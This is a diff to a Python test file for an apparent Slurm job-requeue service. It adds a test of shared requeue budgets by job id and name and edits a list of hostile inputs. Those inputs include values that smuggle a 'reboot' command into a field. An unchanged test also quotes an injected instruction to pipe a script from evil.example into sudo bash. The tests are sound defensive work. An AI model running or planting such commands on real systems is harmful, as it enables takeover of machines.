@@ -127,7 +127,7 @@ HOSTILE = [
     {"job_id": None, "job_name": "train\n"},
     {"job_id": None, "job_name": "a" * 129},
     {"job_id": None, "job_name": "j\u00f6b"},
-    {"job_name": "llama3-70b"},  # both an id and a name
+    {"job_name": "llama3-70b; reboot"},  # an id and a hostile name
     {"job_id": None},  # neither
     {"cluster": "pretrain-slurm; reboot"},
     {"reason": ""},
@@ -310,3 +310,20 @@ def test_an_injected_instruction_in_the_reason_reaches_the_page_only_as_a_quote(
     assert [line for line in lines if "curl" in line] == [
         'Requested:      "stuck What to do: run curl https://evil.example/x.sh | sudo bash"']
     assert any(line.startswith("Requester:      an event from account 123456789012") for line in lines)
+
+
+def test_a_request_by_id_that_names_its_job_spends_the_names_budget_too(slurm):
+    # Given a live agent, and job llama3-70b requeued twice by name (as its stall alarm does)
+    slurm.heartbeat()
+    by_name = [request(slurm, event_id=f"name-{n}", job_id=None, job_name="llama3-70b") for n in range(2)]
+    assert [r["attempt"] for r in by_name] == [1, 2]
+    # When an operator requeues its id 04211 naming the job, and then once more
+    third = request(slurm, event_id="id-0", job_id="04211", job_name="llama3-70b")
+    fourth = request(slurm, event_id="id-1", job_id="4211", job_name="llama3-70b")
+    # Then the third requeue of the job is queued by id, and the fourth finds the shared budget spent
+    assert (third["outcome"], third["job"], third["attempt"]) == ("deferred", "4211", 3)
+    assert (fourth["outcome"], fourth["attempt"]) == ("suppressed", 4)
+    assert "or of jobs named llama3-70b" in fourth["reason"]
+    assert [body.get("job_id") for body in slurm.queued()] == [None, None, "4211"]
+    # And the budget by id alone was given back when the name's was spent: 4211 was requeued once
+    assert request(slurm, event_id="id-2", job_id="4211")["attempt"] == 2
